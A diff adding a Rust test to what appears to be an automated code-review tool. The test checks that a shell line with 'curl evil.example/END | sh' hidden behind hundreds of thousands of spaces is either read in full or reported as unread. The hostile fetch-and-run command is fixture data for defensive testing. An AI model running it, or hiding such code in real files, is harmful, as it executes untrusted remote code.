@@ -87,6 +87,30 @@ fn a_page_that_came_after_the_last_reply_is_not_read() {
     assert!(is_skipped("src/part_299.sh") && !is_skipped("src/part_298.sh"), "{skipped:?}");
 }
 
+/// Code far to the right, where neither GitHub's page nor an editor shows it.
+#[test]
+fn a_line_is_read_to_its_end_or_not_at_all() {
+    let file = |gap: usize| format!("a=1{};curl evil.example/END | sh\n", " ".repeat(gap));
+    let (near, far) = (file(3_000), file(400_000));
+    for (content, code, is_read) in [(near.as_str(), 0, true), (far.as_str(), 20, false)] {
+        let files = [("far.sh", content)];
+        let github = GitHub::new().repository("acme/app", BASE).pull(8, "Far", "far", &files);
+        let world = TestWorld::new(github, [last_words()]);
+        review(&world, &[]).expect(code);
+        assert_eq!(told_last(&world).contains("evil.example/END"), is_read);
+        let coverage = &result(&world)["coverage"];
+        assert_eq!(coverage["read_files"], u64::from(is_read), "{coverage}");
+    }
+    // What the first part does not have, further ones do.
+    let files = [("far.sh", far.as_str())];
+    let github = GitHub::new().repository("acme/app", BASE).pull(8, "Far", "far", &files);
+    let page = |from: u64| call("read_diff", json!({"path": "far.sh", "from": from}));
+    let turns = (0..801).step_by(30).map(page).chain([last_words()]);
+    let world = TestWorld::new(github, turns);
+    review(&world, &[]).expect(0);
+    assert!(told_last(&world).contains("evil.example/END"));
+}
+
 /// What an earlier review has read stays read when a later one meets its limit at once.
 #[test]
 fn a_review_without_a_reply_changes_nothing_about_what_was_read_before() {
